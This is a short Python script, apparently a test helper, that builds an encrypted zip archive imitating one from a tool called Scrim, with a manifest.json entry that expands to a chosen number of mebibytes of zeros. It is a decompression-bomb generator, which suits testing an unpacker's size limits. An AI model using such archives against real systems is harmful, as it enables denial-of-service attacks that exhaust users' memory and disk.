"""Writes an archive that looks like one of Scrim and whose manifest is long once it is unpacked.

    bomb_peer.py FILE PASSWORD MIBIBYTES
"""

import sys

import pyzipper

path, password, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
with pyzipper.AESZipFile(path, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as archive:
    archive.setpassword(password.encode())
    with archive.open("manifest.json", "w", force_zip64=True) as entry:
        for _ in range(count):
            entry.write(bytes(1 << 20))
